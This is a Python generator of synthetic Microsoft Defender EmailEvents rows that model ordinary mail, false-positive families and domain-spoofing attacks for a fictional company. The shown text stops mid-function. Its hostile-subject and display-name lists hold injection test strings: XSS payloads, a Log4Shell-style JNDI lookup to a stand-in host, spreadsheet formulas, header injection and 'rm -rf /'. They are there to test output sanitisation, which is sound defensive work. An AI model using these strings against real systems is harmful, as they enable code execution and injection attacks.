#!/usr/bin/env python3
"""Write samples/EmailEvents.jsonl: a deterministic, realistic day of Defender EmailEvents rows.

Stdlib only. The same seed always gives the same bytes, so the output can be committed and diffed.

The day is the 24 hours ending at BASE_TIME (2026-11-20T12:00:00Z); the demo shifts the times to "now".
The organisation is Contoso, whose accepted domains are contoso.com and fabrikam.fr (its French subsidiary),
exactly the seed rule's default SenderDomains. Besides ordinary inbound, outbound and intra-org mail, the day
holds the seed rule's known false-positive families and a handful of real spoofing attacks, each with a shape
that EmailEvents columns alone can recognise (see `classify`, which the generator checks against every row).

    .venv/bin/python samples/generate_emailevents.py            # writes samples/EmailEvents.jsonl
    .venv/bin/python samples/generate_emailevents.py -o x.jsonl
"""

from __future__ import annotations

import argparse
import ipaddress
import json
import random
import sys
import uuid
from collections import Counter
from collections.abc import Iterator, Sequence
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

SEED = 20261120
BASE_TIME = datetime(2026, 11, 20, 12, 0, 0, tzinfo=UTC)
WINDOW = timedelta(hours=24)
TENANT_ID = "4f8b2c1e-9d3a-4e7b-8c6f-2a1d5e9b7c30"
ACCEPTED_DOMAINS = ("contoso.com", "fabrikam.fr")
OUTPUT = Path(__file__).with_name("EmailEvents.jsonl")

# Every column of shared/schemas/EmailEvents.json except the Log Analytics system columns _BilledSize and
# _IsBillable, in a fixed order (time, identity, sender, recipient, verdict, details).
COLUMNS = (
    "TimeGenerated",
    "Timestamp",
    "TenantId",
    "NetworkMessageId",
    "InternetMessageId",
    "ReportId",
    "SenderMailFromAddress",
    "SenderFromAddress",
    "SenderDisplayName",
    "SenderObjectId",
    "SenderMailFromDomain",
    "SenderFromDomain",
    "SenderIPv4",
    "SenderIPv6",
    "RecipientEmailAddress",
    "RecipientObjectId",
    "Subject",
    "EmailClusterId",
    "EmailDirection",
    "DeliveryAction",
    "DeliveryLocation",
    "LatestDeliveryAction",
    "LatestDeliveryLocation",
    "ThreatTypes",
    "ThreatNames",
    "ThreatClassification",
    "DetectionMethods",
    "ConfidenceLevel",
    "BulkComplaintLevel",
    "EmailAction",
    "EmailActionPolicy",
    "EmailActionPolicyGuid",
    "AuthenticationDetails",
    "AttachmentCount",
    "UrlCount",
    "EmailLanguage",
    "Connectors",
    "OrgLevelAction",
    "OrgLevelPolicy",
    "UserLevelAction",
    "UserLevelPolicy",
    "ForwardingInformation",
    "AdditionalFields",
    "To",
    "Cc",
    "IsFirstContact",
    "Context",
    "Type",
    "SourceSystem",
)

# ---------------------------------------------------------------------------------------------------------------
# Scenarios. Each id is what `classify` returns for a row; the generator asserts it agrees with its own label.
# ---------------------------------------------------------------------------------------------------------------
INBOUND = "inbound-baseline"
OUTBOUND = "outbound"
INTRA_ORG = "intra-org"
LOOKALIKE = "lookalike-domain"
SUBDOMAIN = "accepted-subdomain"
FP_SCHEDULER = "fp-a-scheduler-relay"
FP_SERVICENOW = "fp-b-saas-servicenow"
FP_ZENDESK = "fp-b-saas-zendesk"
FP_PARTNER = "fp-c-partner-relay"
FP_HYBRID = "fp-d-hybrid-misconfig"
ATTACK = "attack-spoof"
ATTACK_UNREADABLE = "attack-spoof-unreadable-auth"

SCENARIOS: dict[str, str] = {
    INBOUND: "ordinary inbound mail: partners, SaaS notifications, newsletters, consumer mail, spam, phish, malware",
    OUTBOUND: "mail from Contoso users to the outside (some with temperror in AuthenticationDetails)",
    INTRA_ORG: "mail between Contoso users (some with temperror, some with MAIL FROM domain Contoso.com)",
    LOOKALIKE: "inbound from look-alike domains (c0ntoso.com, contoso.com.evil.io, ...) with temperror",
    SUBDOMAIN: "inbound from subdomains of accepted domains (mail.contoso.com, ...) with temperror",
    FP_SCHEDULER: "(a) noreply-scheduler@contoso.com from on-prem relay 10.20.30.40 via Contoso-OnPrem-Relay",
    FP_SERVICENOW: "(b) ServiceNow sending as servicedesk@contoso.com from 149.96.0.0/16",
    FP_ZENDESK: "(b) Zendesk sending as support@contoso.com from 192.161.144.0/20",
    FP_PARTNER: "(c) partner Tailspin Toys' relay 203.0.113.25-26, From tailspintoys.com, MAIL FROM bounces at "
    "contoso.com / fabrikam.fr; tailspintoys.com's DMARC lookup fails (temperror)",
    FP_HYBRID: "(d) Contoso's own hybrid hairpin: 52.100.x.x via connector Contoso-Outbound-Hybrid, DMARC "
    "permerror/temperror",
    ATTACK: "TRUE attack: contoso.com / fabrikam.fr spoofed from outside, DMARC/SPF temperror, delivered to Inbox",
    ATTACK_UNREADABLE: "TRUE attack the seed rule cannot see: AuthenticationDetails empty, malformed or with "
    "lower-case keys",
}

FP_SCHEDULER_ADDRESS = "noreply-scheduler@contoso.com"
FP_SCHEDULER_IP = "10.20.30.40"
FP_SCHEDULER_CONNECTOR = "Contoso-OnPrem-Relay"
FP_SERVICENOW_NET = ipaddress.ip_network("149.96.0.0/16")
FP_ZENDESK_NET = ipaddress.ip_network("192.161.144.0/20")
FP_PARTNER_IPS = ("203.0.113.25", "203.0.113.26")
FP_HYBRID_NET = ipaddress.ip_network("52.100.0.0/14")
FP_HYBRID_CONNECTOR = "Contoso-Outbound-Hybrid"
# Contoso's DNS provider had an outage: SPF/DMARC lookups for contoso.com timed out in this window.
DNS_OUTAGE = (datetime(2026, 11, 20, 2, 0, tzinfo=UTC), datetime(2026, 11, 20, 6, 0, tzinfo=UTC))

LOOKALIKE_DOMAINS = (
    "c0ntoso.com",
    "contoso.com.evil.io",
    "contoso-com.net",
    "contosso.com",
    "contoso.co",
    "xn--cntoso-wqf.com",  # "cоntoso.com" with a Cyrillic o
    "fabrikam-fr.com",
    "fabrikarn.fr",
    "fabrikam.fr.secure-login.top",
)
SUBDOMAINS = ("mail.contoso.com", "marketing.contoso.com", "hr.contoso.com", "news.fabrikam.fr")

SPF_VALUES = ("pass", "fail", "softfail", "neutral", "none", "temperror", "permerror")
DKIM_VALUES = ("pass", "fail", "none")
DMARC_VALUES = ("pass", "fail", "bestguesspass", "none", "temperror", "permerror")
COMPAUTH_VALUES = ("pass", "fail", "softpass", "none")

INBOX = "Inbox/folder"
JUNK = "Junk folder"
QUARANTINE = "Quarantine"
EXTERNAL = "On-premises/external"

# ---------------------------------------------------------------------------------------------------------------
# Hostile text: what an attacker controls (Subject, display name) must never break or forge the Teams card.
# ---------------------------------------------------------------------------------------------------------------
_LONG_TAIL = " [Pay](https://evil.example/long)"
LONG_SUBJECT = ("Final notice: your invoice is overdue. " * 600)[: 20_000 - len(_LONG_TAIL)] + _LONG_TAIL

HOSTILE_SUBJECTS = (
    "[Pay now](https://evil.example/x)",
    "<img src=x onerror=alert(1)>",
    "{{DATE(2020-01-01T00:00:00Z)}}",
    "Invoice 2026-11 \u202efdp.exe",  # right-to-left override: renders as "Invoice 2026-11 exe.pdf"
    "Urgent\x00\x07\x08 \x1b[31mRED\x1b[0m\r\nBcc: ceo@contoso.com\tend\x7f",
    "\U0001f6a8 Action required \U0001f510\U0001f4e6 \U0001f468\u200d\U0001f469\u200d\U0001f467 \u2705",
    "**URGENT** _please_ `rm -rf /`\n> quoted\n# Heading",
    "![pixel](https://evil.example/pixel.png) Your parcel is waiting",
    "C:\\Users\\Public\\${jndi:ldap://evil.example/a} \\\\server\\share",
    "&lt;b&gt;Password&lt;/b&gt; &amp; MFA reset",
    'Re: <a href="https://evil.example/?q=1&x=2">Shared document</a> "quoted"',
    "H\u0337\u0324e\u0335l\u0338l\u0337o\u0334 from IT",
    "@channel <at>General</at> all-hands moved",
    '=HYPERLINK("https://evil.example","Open")',
)
HOSTILE_DISPLAY_NAMES = (
    "Microsoft 365 <no-reply@microsoft.com>",
    "[IT Support](https://evil.example/login)",
    "<script>alert('x')</script>",
    "\u202eecivreS TI",
    "@channel",
    "<at>Everyone</at>",
    '=HYPERLINK("https://evil.example","Click")',
    "CEO\r\nX-Injected: yes",
    "\U0001f525 Payroll \U0001f525",
    "\u200b\u200bAdmin\u200d",
    "{{DATE(2020-01-01T00:00:00Z, SHORT)}}",
    "A" * 300,
    "**Helpdesk** _urgent_ `code`",
)

# ---------------------------------------------------------------------------------------------------------------
# The outside world
# ---------------------------------------------------------------------------------------------------------------
CONTOSO_PEOPLE = (
    "Adele Vance", "Alex Wilber", "Allan Deyoung", "Christie Cline", "Debra Berger", "Diego Siciliani",
    "Emily Braun", "Enrico Cattaneo", "Grady Archie", "Henrietta Mueller", "Irvin Sayers", "Isaiah Langer",
    "Johanna Lorenz", "Joni Sherman", "Lee Gu", "Lidia Holloway", "Lynne Robbins", "Megan Bowen",
    "Miriam Graham", "Nestor Wilke", "Patti Fernandez", "Pradeep Gupta", "Raul Razo", "Sanjay Shah",
    "Megan Okafor", "Tomasz Nowak", "Yuki Tanaka", "Amara Nwosu", "Kenji Watanabe", "Sofia Rossi",
    "Liam O'Brien", "Chen Wei", "Fatima Zahra", "Olga Petrova", "Carlos Mendes", "Priya Raman",
    "Noah Fischer", "Hannah Schmidt", "Ivan Horvat", "Zoe Martin",
)  # fmt: skip
FABRIKAM_PEOPLE = (
    "Camille Dubois", "Léa Martin", "Hugo Bernard", "Chloé Petit", "Louis Durand", "Manon Leroy",
    "Théo Moreau", "Inès Simon", "Lucas Laurent", "Zoé Lefèvre", "Gabriel Michel", "Jade Garcia",
)  # fmt: skip
SHARED_MAILBOXES = ("ops-team", "finance", "accounts-payable", "hr", "sales", "it-helpdesk", "legal")

PARTNERS = (
    "northwindtraders.com", "adventure-works.com", "wingtiptoys.com", "tailspintoys.com", "litwareinc.com",
    "woodgrovebank.com", "proseware.com", "fourthcoffee.com", "alpineskihouse.com", "wideworldimporters.com",
    "lucernepublishing.com", "margiestravel.com", "treyresearch.net", "coho-winery.com", "graphicdesigninstitute.com",
)  # fmt: skip
CONSUMER = (
    "gmail.com", "outlook.com", "hotmail.com", "yahoo.com", "icloud.com", "gmx.de", "orange.fr", "free.fr",
    "laposte.net", "proton.me", "web.de",
)  # fmt: skip
FIRST = ("james", "mary", "ahmed", "li", "maria", "jean", "anna", "paul", "nina", "omar", "sara", "tom", "eva")
LAST = ("smith", "garcia", "muller", "rossi", "dupont", "kowalski", "ng", "silva", "khan", "berg", "lopez")


@dataclass(frozen=True)
class Saas:
    name: str
    from_address: str
    mail_from: str
    net: str
    subjects: tuple[str, ...]


SAAS = (
    Saas("GitHub", "notifications@github.com", "noreply@github.com", "192.30.252.0/22",
         ("[contoso/{w}] Pull request #{n} opened", "[contoso/{w}] CI failed on main", "Your weekly digest")),
    Saas("DocuSign", "dse@docusign.net", "bounces@docusign.net", "64.207.219.0/24",
         ("Please DocuSign: Contract {n}", "Completed: NDA {w} {n}")),
    Saas("Zoom", "no-reply@zoom.us", "bounce@zoom.us", "170.114.0.0/16",
         ("Cloud recording is now available", "Meeting invitation: {w} sync")),
    Saas("Atlassian", "jira@contoso.atlassian.net", "bounces@atlassian.net", "13.52.5.0/25",
         ("[JIRA] (OPS-{n}) {w} outage follow-up", "[Confluence] {w} page updated")),
    Saas("Salesforce", "noreply@salesforce.com", "bounce@bnc3.mail.salesforce.com", "13.108.16.0/20",
         ("Opportunity {w} moved to Closed Won", "Weekly pipeline report")),
    Saas("LinkedIn", "messages-noreply@linkedin.com", "m-abc@bounce.linkedin.com", "108.174.0.0/20",
         ("You appeared in {n} searches this week", "New message from a recruiter")),
    Saas("ServiceNow", "contoso@service-now.com", "contoso@service-now.com", "149.96.0.0/16",
         ("Instance upgrade scheduled", "Your instance usage report")),
    Saas("Microsoft", "no-reply@microsoft.com", "msonlineservicesteam@microsoftonline.com", "40.107.0.0/16",
         ("Your Microsoft 365 invoice", "Message center digest", "Service health: {w} advisory")),
)  # fmt: skip

NEWSLETTERS = (
    ("news@wingtiptoys.com", "Wingtip Toys", "Black Friday preview: {n}% off"),
    ("newsletter@fourthcoffee.com", "Fourth Coffee", "This week's roast: {w}"),
    ("digest@techweekly.example.com", "Tech Weekly", "{n} things to know about {w}"),
    ("offers@margiestravel.com", "Margie's Travel", "Winter deals to {w}"),
    ("info@lucernepublishing.com", "Lucerne Publishing", "New titles in {w}"),
)
WORDS = ("alpha", "bravo", "atlas", "nova", "orion", "zephyr", "apex", "helios", "kestrel", "lumen", "quartz")
SPAM_TLDS = ("top", "xyz", "shop", "click", "info", "biz", "online", "ru", "cn", "live")
SPAM_SUBJECTS = (
    "You have won a $1000 gift card",
    "Re: your account will be suspended",
    "Cheap meds online - {n}% off",
    "Invoice #{n} attached",
    "Crypto opportunity you can't miss",
    "Your package could not be delivered",
    "Voicemail from +1 555 01{n}",
    "Document shared with you: Q4_{w}.pdf",
)
BUSINESS_SUBJECTS = (
    "RE: Q4 forecast", "Meeting notes {w}", "Purchase order PO-{n}", "Updated price list", "Contract renewal",
    "Lunch next week?", "Shipping schedule for order {n}", "RE: RE: {w} project status", "Invoice {n}",
    "Proposal for {w}", "Out of office", "Welcome to the {w} programme", "Quick question",
)  # fmt: skip
FRENCH_SUBJECTS = ("Facture {n}", "Réunion {w} - compte rendu", "Commande n°{n}", "Bonne nouvelle !")
INTERNAL_SUBJECTS = (
    "Team sync", "RE: Budget {w}", "Holiday rota", "FW: {w} slides", "Build {n} is green", "1:1 agenda",
    "Expense report {n}", "Office closed Friday", "Re: Customer escalation {n}", "Lunch?",
)  # fmt: skip

Row = dict[str, Any]


@dataclass
class Change:
    """A later verdict or location change: Defender re-emits the message-recipient row."""

    delay: timedelta
    action: str
    location: str
    latest_action: str
    recipients: list[str] | None = None  # None: every recipient


@dataclass
class Message:
    scenario: str
    time: datetime
    direction: str
    mail_from: str
    sender_from: str
    display_name: str
    ipv4: str
    ipv6: str
    to: list[str]
    subject: str
    auth: str
    cc: list[str] = field(default_factory=list)
    bcc: list[str] = field(default_factory=list)
    action: str = "Delivered"
    location: str = INBOX
    threat_types: str = ""
    threat_names: str = ""
    detection_methods: str = ""
    confidence: str = ""
    bcl: int = 0
    email_action: str = ""
    email_action_policy: str = ""
    org_action: str = ""
    org_policy: str = ""
    user_action: str = ""
    user_policy: str = ""
    attachments: int = 0
    urls: int = 0
    language: str = "en"
    connectors: str = ""
    first_contact: bool = False
    additional: dict[str, Any] = field(default_factory=dict)
    changes: list[Change] = field(default_factory=list)
    cluster: str = ""

    def recipients(self) -> list[str]:
        return list(dict.fromkeys([*self.to, *self.cc, *self.bcc]))


def auth_details(spf: str, dkim: str, dmarc: str, compauth: str, *, drop: Sequence[str] = ()) -> str:
    """AuthenticationDetails as Defender writes it: a compact JSON string."""
    values = {"SPF": spf, "DKIM": dkim, "DMARC": dmarc, "CompAuth": compauth}
    return json.dumps({k: v for k, v in values.items() if k not in drop}, separators=(",", ":"))


def iso(moment: datetime) -> str:
    return moment.astimezone(UTC).strftime("%Y-%m-%dT%H:%M:%S.%fZ")


def domain_of(address: str) -> str:
    return address.rpartition("@")[2]


def in_net(ip: str, net: ipaddress.IPv4Network | ipaddress.IPv6Network) -> bool:
    return bool(ip) and ipaddress.ip_address(ip) in net


# ---------------------------------------------------------------------------------------------------------------
# Recognising scenarios from EmailEvents columns alone (what an exclusion can use)
# ---------------------------------------------------------------------------------------------------------------
def classify(row: Row) -> str:
    """The scenario of a row, judged only from real EmailEvents columns (a missing column reads as "")."""

    def col(name: str) -> str:
        return str(row.get(name) or "")

    direction = col("EmailDirection")
    if direction == "Outbound":
        return OUTBOUND
    if direction == "Intra-org":
        return INTRA_ORG
    mail_from_domain = col("SenderMailFromDomain").lower()
    ip = col("SenderIPv4")
    connectors = col("Connectors")
    if mail_from_domain in ACCEPTED_DOMAINS:
        if (
            col("SenderMailFromAddress").lower() == FP_SCHEDULER_ADDRESS
            and ip == FP_SCHEDULER_IP
            and connectors == FP_SCHEDULER_CONNECTOR
        ):
            return FP_SCHEDULER
        if col("SenderFromAddress").lower() == "servicedesk@contoso.com" and in_net(ip, FP_SERVICENOW_NET):
            return FP_SERVICENOW
        if col("SenderFromAddress").lower() == "support@contoso.com" and in_net(ip, FP_ZENDESK_NET):
            return FP_ZENDESK
        if col("SenderFromDomain").lower() == "tailspintoys.com" and ip in FP_PARTNER_IPS:
            return FP_PARTNER
        if connectors == FP_HYBRID_CONNECTOR and in_net(ip, FP_HYBRID_NET):
            return FP_HYBRID
        try:
            parsed = json.loads(col("AuthenticationDetails"))
        except ValueError:
            parsed = None
        if isinstance(parsed, dict) and ("SPF" in parsed or "DMARC" in parsed):
            return ATTACK
        return ATTACK_UNREADABLE
    if mail_from_domain in LOOKALIKE_DOMAINS:
        return LOOKALIKE
    if any(mail_from_domain.endswith("." + d) for d in ACCEPTED_DOMAINS):
        return SUBDOMAIN
    return INBOUND


# ---------------------------------------------------------------------------------------------------------------
# Generation
# ---------------------------------------------------------------------------------------------------------------
class Generator:
    def __init__(self, seed: int = SEED) -> None:
        self.rng = random.Random(seed)
        self.people: list[tuple[str, str]] = []  # (display name, address)
        for name in CONTOSO_PEOPLE:
            self.people.append((name, self._address(name, "contoso.com")))
        for name in FABRIKAM_PEOPLE:
            self.people.append((name, self._address(name, "fabrikam.fr")))
        self.mailboxes = [f"{m}@contoso.com" for m in SHARED_MAILBOXES]
        self.object_ids = {addr: self.guid() for _, addr in self.people}
        self.object_ids.update({addr: self.guid() for addr in self.mailboxes})
        self.partner_ips = {p: self.public_ip() for p in PARTNERS}
        self.clusters: dict[str, int] = {}
        self.report_seq = 0

    # -- primitives ----------------------------------------------------------------------------------------
    @staticmethod
    def _address(name: str, domain: str) -> str:
        plain = name.lower().translate(str.maketrans("éèçôîïëàâ", "eecoiieaa", "'"))
        return plain.replace(" ", ".") + "@" + domain

    def guid(self) -> str:
        return str(uuid.UUID(int=self.rng.getrandbits(128), version=4))

    def pick(self, items: Sequence[str]) -> str:
        return items[self.rng.randrange(len(items))]

    def chance(self, p: float) -> bool:
        return self.rng.random() < p

    def fill(self, template: str) -> str:
        return template.replace("{n}", str(self.rng.randint(10, 99999))).replace("{w}", self.pick(WORDS))

    def public_ip(self) -> str:
        avoid = (FP_SERVICENOW_NET, FP_ZENDESK_NET, FP_HYBRID_NET)
        while True:
            first = self.pick(("45", "62", "77", "91", "103", "146", "176", "185", "193", "194", "212", "217"))
            ip = ipaddress.IPv4Address(
                f"{first}.{self.rng.randint(0, 255)}.{self.rng.randint(0, 255)}.{self.rng.randint(1, 254)}"
            )
            if ip.is_global and not any(ip in n for n in avoid):
                return str(ip)

    def ip_in(self, net: str) -> str:
        network = ipaddress.ip_network(net)
        return str(network[self.rng.randint(1, network.num_addresses - 2)])

    def exo_ipv6(self) -> str:
        a, b, c = self.rng.randint(0x100, 0xFFF), self.rng.randint(0, 0xFFF), self.rng.randint(1, 0xFF)
        return f"2603:10a6:{a:x}:{b:x}::{c:x}"

    def time(
        self,
        *,
        latest: datetime = BASE_TIME - timedelta(seconds=1),
        earliest: datetime | None = None,
        office: bool = True,
    ) -> datetime:
        """A moment in the window, weighted towards European office hours, with millisecond precision."""
        start = earliest or (BASE_TIME - WINDOW)
        span = int((latest - start).total_seconds() * 1000)
        while True:
            moment = start + timedelta(milliseconds=self.rng.randint(0, span - 1))
            hour = moment.hour
            weight = 1.0 if 7 <= hour < 18 else 0.35 if hour in (6, 18, 19, 20) else 0.12
            if not office or self.rng.random() < weight:
                return moment

    def person(self, domain: str | None = None) -> tuple[str, str]:
        while True:
            name, addr = self.people[self.rng.randrange(len(self.people))]
            if domain is None or addr.endswith("@" + domain):
                return name, addr

    def recipients(self, *, many: float = 0.25, domain: str | None = None) -> tuple[list[str], list[str]]:
        to = [self.person(domain)[1]]
        if self.chance(many):
            to += [self.person(domain)[1] for _ in range(self.rng.randint(1, 3))]
        cc = [self.person(domain)[1] for _ in range(self.rng.randint(1, 2))] if self.chance(many / 2) else []
        to = list(dict.fromkeys(to))
        return to, [c for c in dict.fromkeys(cc) if c not in to]

    def cluster(self, key: str) -> int:
        if key not in self.clusters:
            self.clusters[key] = self.rng.randint(10**11, 2**50)
        return self.clusters[key]

    def normal_auth(self) -> str:
        """Authentication results of ordinary inbound mail: mostly pass, every value somewhere."""
        roll = self.rng.random()
        if roll < 0.80:
            return auth_details("pass", "pass", "pass", "pass")
        spf = self.pick(SPF_VALUES)
        dkim = self.pick(DKIM_VALUES)
        dmarc = self.pick(DMARC_VALUES)
        compauth = self.pick(COMPAUTH_VALUES)
        if roll < 0.95:
            return auth_details(spf, dkim, dmarc, compauth)
        return self.odd_auth(spf, dkim, dmarc, compauth)

    def odd_auth(self, spf: str, dkim: str, dmarc: str, compauth: str) -> str:
        """Shapes real parsers trip over: missing keys, empty, malformed, upper-case values."""
        kind = self.rng.randrange(5)
        if kind == 0:
            return auth_details(spf, dkim, dmarc, compauth, drop=("DKIM", "CompAuth"))
        if kind == 1:
            return auth_details(spf, dkim, dmarc, compauth, drop=("DMARC",))
        if kind == 2:
            return ""
        if kind == 3:
            return "{SPF=" + spf
        return auth_details(spf.upper(), dkim.capitalize(), dmarc.replace("temperror", "TempError"), compauth)

    # -- scenarios -------------------------------------------------------------------------------------------
    def inbound_baseline(self, count: int) -> Iterator[Message]:
        kinds = ("partner", "saas", "newsletter", "consumer", "spam", "phish", "malware")
        weights = (34, 26, 14, 10, 10, 5, 1)
        for _ in range(count):
            kind = self.rng.choices(kinds, weights)[0]
            yield getattr(self, f"_inbound_{kind}")()

    def _inbound_partner(self) -> Message:
        partner = self.pick(PARTNERS)
        sender = f"{self.pick(FIRST)}.{self.pick(LAST)}@{partner}"
        to, cc = self.recipients(many=0.35)
        on_m365 = self.chance(0.4)
        ipv4 = self.ip_in(self.pick(("40.107.0.0/16", "52.100.0.0/16"))) if on_m365 else self.partner_ips[partner]
        french = any(r.endswith("@fabrikam.fr") for r in to) and self.chance(0.6)
        subject = self.fill(self.pick(FRENCH_SUBJECTS if french else BUSINESS_SUBJECTS))
        failed = self.chance(0.015)  # transport failure (recipient mailbox full, ...)
        tls = partner in PARTNERS[:3] and not on_m365  # arrives over a partner connector, allowed by a transport rule
        return Message(
            INBOUND, self.time(), "Inbound", sender, sender, sender.split("@")[0].replace(".", " ").title(),
            ipv4, "", to, subject, self.normal_auth(), cc=cc, attachments=self.rng.choice((0, 0, 0, 1, 2)),
            urls=self.rng.randint(0, 3), language="fr" if french else "en", first_contact=self.chance(0.05),
            connectors="Partner-Inbound-TLS" if tls else "", org_action="Allow" if tls else "",
            org_policy="Exchange transport rule" if tls else "",
            action="Blocked" if failed else "Delivered", location="Failed" if failed else INBOX,
        )  # fmt: skip

    def _inbound_saas(self) -> Message:
        saas = SAAS[self.rng.randrange(len(SAAS))]
        template = self.pick(saas.subjects)
        to, _ = self.recipients(many=0.05)
        return Message(
            INBOUND, self.time(office=False), "Inbound", saas.mail_from, saas.from_address, saas.name,
            self.ip_in(saas.net), "", to, self.fill(template), self.normal_auth(), urls=self.rng.randint(1, 12),
            cluster=saas.name + template, bcl=self.rng.choice((0, 0, 1, 3)),
        )  # fmt: skip

    def _inbound_newsletter(self) -> Message:
        sender, name, template = NEWSLETTERS[self.rng.randrange(len(NEWSLETTERS))]
        bounce = f"bounce-mc.us5_{self.rng.randint(10**6, 10**7)}@mail{self.rng.randint(10, 250)}.suw11.mcsv.net"
        to, _ = self.recipients(many=0.0)
        bcl = self.rng.randint(4, 8)
        junked = bcl >= 7 and self.chance(0.7)
        return Message(
            INBOUND, self.time(), "Inbound", bounce, sender, name, self.ip_in("198.2.128.0/18"), "", to,
            self.fill(template), self.normal_auth(), bcl=bcl, urls=self.rng.randint(10, 60), cluster=sender,
            action="Junked" if junked else "Delivered", location=JUNK if junked else INBOX,
            threat_types="Spam" if junked else "", detection_methods='{"Spam":["Bulk"]}' if junked else "",
            email_action="Move message to junk mail folder" if junked else "",
            email_action_policy="Bulk" if junked else "",
        )  # fmt: skip

    def _inbound_consumer(self) -> Message:
        domain = self.pick(CONSUMER)
        sender = f"{self.pick(FIRST)}{self.pick(LAST)}{self.rng.randint(1, 999)}@{domain}"
        to, _ = self.recipients(many=0.1)
        french = domain in ("orange.fr", "free.fr", "laposte.net")
        name = self.pick(HOSTILE_DISPLAY_NAMES) if self.chance(0.04) else sender.split("@")[0].title()
        safe = self.chance(0.1)  # the recipient put the sender on their safe senders list
        return Message(
            INBOUND, self.time(), "Inbound", sender, sender, name, self.public_ip(), "", to,
            self.fill(self.pick(FRENCH_SUBJECTS if french else BUSINESS_SUBJECTS)), self.normal_auth(),
            language="fr" if french else self.pick(("en", "en", "de", "es", "")), first_contact=self.chance(0.5),
            user_action="Allow" if safe else "", user_policy="User Safe Senders list" if safe else "",
        )  # fmt: skip

    def _spam_domain(self) -> str:
        return f"{self.pick(WORDS)}{self.pick(WORDS)}{self.rng.randint(1, 99)}.{self.pick(SPAM_TLDS)}"

    def _inbound_spam(self) -> Message:
        domain = self._spam_domain()
        sender = f"{self.pick(('info', 'promo', 'support', 'noreply', 'billing'))}@{domain}"
        to, _ = self.recipients(many=0.3)
        hostile = self.chance(0.1)
        subject = self.pick(HOSTILE_SUBJECTS) if hostile else self.fill(self.pick(SPAM_SUBJECTS))
        name = self.pick(HOSTILE_DISPLAY_NAMES) if self.chance(0.15) else domain.split(".")[0].title()
        auth = auth_details(self.pick(SPF_VALUES), self.pick(DKIM_VALUES), self.pick(DMARC_VALUES),
                            self.pick(("fail", "none", "softpass")))  # fmt: skip
        if self.chance(0.1):
            auth = self.odd_auth(*json.loads(auth).values())
        quarantine = self.chance(0.3)
        blocked_by = self.rng.choices(("", "org", "user"), (90, 5, 5))[0]
        msg = Message(
            INBOUND, self.time(office=False), "Inbound", sender, sender, name, self.public_ip(), "", to, subject,
            auth, action="Blocked" if quarantine else "Junked", location=QUARANTINE if quarantine else JUNK,
            threat_types="Spam", detection_methods='{"Spam":["Advanced filter"]}',
            confidence='{"Spam":"High"}' if quarantine else '{"Spam":"Normal"}', bcl=self.rng.randint(0, 9),
            email_action="Send message to quarantine" if quarantine else "Move message to junk mail folder",
            email_action_policy="Antispam", urls=self.rng.randint(1, 8), first_contact=True,
            language=self.pick(("en", "en", "ru", "zh", "")), cluster=subject[:20],
            org_action="Block" if blocked_by == "org" else "",
            org_policy="Tenant Allow Block List" if blocked_by == "org" else "",
            user_action="Block" if blocked_by == "user" else "",
            user_policy="User Blocked Senders list" if blocked_by == "user" else "",
        )  # fmt: skip
        if quarantine and self.chance(0.08):  # an admin releases a false positive from quarantine
            msg.changes.append(
                Change(timedelta(minutes=self.rng.randint(20, 300)), "Delivered", INBOX, "Quarantine release")
            )
        return msg

    def _inbound_phish(self) -> Message:
        domain = self._spam_domain()
        sender = f"{self.pick(('security', 'it-support', 'payroll', 'docs'))}@{domain}"
        to, cc = self.recipients(many=0.4)
        subject = self.pick(HOSTILE_SUBJECTS) if self.chance(0.35) else self.fill(self.pick(SPAM_SUBJECTS))
        name = self.pick(HOSTILE_DISPLAY_NAMES) if self.chance(0.4) else "IT Support"
        delivered = self.chance(0.5)
        spf, dkim = self.pick(("fail", "softfail", "none", "pass")), self.pick(DKIM_VALUES)
        auth = auth_details(
            spf, dkim, self.pick(("fail", "none", "bestguesspass", "pass")), self.pick(("fail", "none"))
        )
        msg = Message(
            INBOUND, self.time(latest=BASE_TIME - timedelta(hours=6)), "Inbound", sender, sender, name,
            self.public_ip(), "", to, subject, auth, cc=cc,
            action="Delivered" if delivered else "Blocked", location=INBOX if delivered else QUARANTINE,
            threat_types="" if delivered else "Phish",
            detection_methods="" if delivered else '{"Phish":["URL detonation reputation"]}',
            confidence="" if delivered else '{"Phish":"High"}',
            email_action="" if delivered else "Send message to quarantine",
            email_action_policy="" if delivered else "Antiphish", urls=self.rng.randint(1, 4), first_contact=True,
            cluster="phish" + domain,
        )  # fmt: skip
        if delivered and self.chance(0.8):  # zero-hour auto purge moves it out of the inbox later
            zapped = msg.recipients() if self.chance(0.7) else msg.recipients()[:1]
            msg.changes.append(
                Change(
                    timedelta(minutes=self.rng.randint(3, 240)), "Blocked", QUARANTINE, "Moved to quarantine", zapped
                )
            )
        return msg

    def _inbound_malware(self) -> Message:
        domain = self._spam_domain()
        sender = f"invoices@{domain}"
        to, _ = self.recipients(many=0.2)
        replaced = self.chance(0.4)
        dropped = not replaced and self.chance(0.3)
        return Message(
            INBOUND, self.time(), "Inbound", sender, sender, "Accounts", self.public_ip(), "", to,
            self.fill("Invoice {n} overdue"), auth_details("softfail", "none", "fail", "fail"),
            action="Replaced" if replaced else "Blocked",
            location=INBOX if replaced else ("Dropped" if dropped else QUARANTINE),
            threat_types="Malware", threat_names=self.pick(("Trojan:Win32/Emotet", "TrojanDownloader:O97M/Qakbot")),
            detection_methods='{"Malware":["File detonation"]}', confidence='{"Malware":"High"}',
            email_action="Replace attachment" if replaced else "Send message to quarantine",
            email_action_policy="Antimalware", attachments=1, first_contact=True, cluster="malware" + domain,
        )  # fmt: skip

    def outbound(self, count: int) -> Iterator[Message]:
        for _ in range(count):
            name, sender = self.person()
            if self.chance(0.7):
                externals = [f"{self.pick(FIRST)}.{self.pick(LAST)}@{self.pick(PARTNERS)}"]
            else:
                externals = [f"{self.pick(FIRST)}{self.rng.randint(1, 99)}@{self.pick(CONSUMER)}"]
            if self.chance(0.2):
                externals.append(f"{self.pick(FIRST)}.{self.pick(LAST)}@{self.pick(PARTNERS)}")
            externals = list(dict.fromkeys(externals))
            # Outbound rows carry AuthenticationDetails too; a few temperror ones check the direction filter.
            auth = (auth_details("temperror", "pass", "temperror", "pass") if self.chance(0.05)
                    else auth_details("pass", "pass", "pass", "pass"))  # fmt: skip
            yield Message(
                OUTBOUND, self.time(), "Outbound", sender, sender, name, "", self.exo_ipv6(), externals[:1],
                self.fill(self.pick(BUSINESS_SUBJECTS)), auth, cc=externals[1:], location=EXTERNAL,
                attachments=self.rng.choice((0, 0, 1)), urls=self.rng.randint(0, 2),
